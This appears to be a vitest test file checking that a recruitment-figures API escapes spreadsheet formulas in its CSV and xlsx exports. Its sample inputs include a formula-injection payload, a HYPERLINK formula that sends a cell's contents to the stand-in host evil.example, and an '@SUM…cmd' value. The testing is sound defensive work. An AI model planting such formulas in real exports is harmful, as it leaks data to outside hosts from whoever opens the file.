// The funders' recruitment figures as a download: a round name or region any office's coordinator types (such as
// `=HYPERLINK(…)`) reaches every funder's spreadsheet, so it must arrive as text, never as a formula Excel runs
// (CSV injection): in the CSV for Dutch Excel with a leading apostrophe, in the xlsx as a string cell.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi } from './helpers/api';
import { withKey } from './helpers/app';
import { createKey, seedPartners, type Partners } from './helpers/partners';

let api: TestApi;
let theirs: Partners;
let typist: string;
let funder: string;
let roundId: string;
const evilName = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
const evilRegion = '@SUM(1+1)*cmd';

const get = (url: string, key: string) =>
  api.app.inject({ method: 'GET', url, headers: { authorization: withKey(key).authorization } });

beforeAll(async () => {
  api = await startTestApi();
  theirs = await seedPartners(api.call, 'Zeeland');
  const mine = await seedPartners(api.call);
  typist = await createKey(api.call, theirs.officeId, 'coordinator');
  // A gemeente's funder key of the admin: it sees every office's figures, per programme and region.
  funder = await createKey(api.call, mine.gemeenteId, 'funder');
  const made = await api.call(
    'POST',
    '/v1/recruitment-rounds',
    { programmeId: 'welslagen', region: evilRegion, name: evilName },
    typist,
  );
  expect(made.status, JSON.stringify(made.json)).toBe(201);
  roundId = made.json.id as string;
}, 120_000);
afterAll(async () => api?.close());

const csvRows = (body: string) =>
  body
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter((l) => l !== '');

describe("the funders' recruitment figures as a download", () => {
  it("give a typed region as text with a leading apostrophe in the funder's CSV, never a formula", async () => {
    const res = await get(`/v1/recruitment-figures?region=${encodeURIComponent(evilRegion)}&format=csv-nl`, funder);
    expect(res.statusCode).toBe(200);
    const [, first] = csvRows(res.body);
    expect(first!.split(';').slice(0, 3)).toEqual(['welslagen', `'${evilRegion}`, '1 ronde']);
    for (const line of csvRows(res.body)) expect(line.split(';').every((c) => !/^"?[=+@\t\r]/.test(c))).toBe(true);
  });

  it("give a typed round name as text in the coordinator's own CSV per round", async () => {
    const res = await get(`/v1/recruitment-figures?roundId=${roundId}&format=csv-nl`, typist);
    expect(res.statusCode).toBe(200);
    const [, first] = csvRows(res.body);
    // The name holds a ';', so it is quoted; inside the quotes it begins with the apostrophe.
    expect(first).toContain(`;"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")";`);
    expect(first!.startsWith(`welslagen;'${evilRegion};"'=HYPERLINK(`)).toBe(true);
  });

  it('write the name and region into the xlsx as strings, not formulas', async () => {
    const res = await get(`/v1/recruitment-figures?roundId=${roundId}&format=xlsx`, typist);
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = book.getWorksheet('Werving')!.getRow(2);
    for (const [col, text] of [
      [2, evilRegion],
      [3, evilName],
    ] as const) {
      expect(row.getCell(col).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(col).formula).toBeUndefined();
      expect(row.getCell(col).value).toBe(text);
    }
  });
});
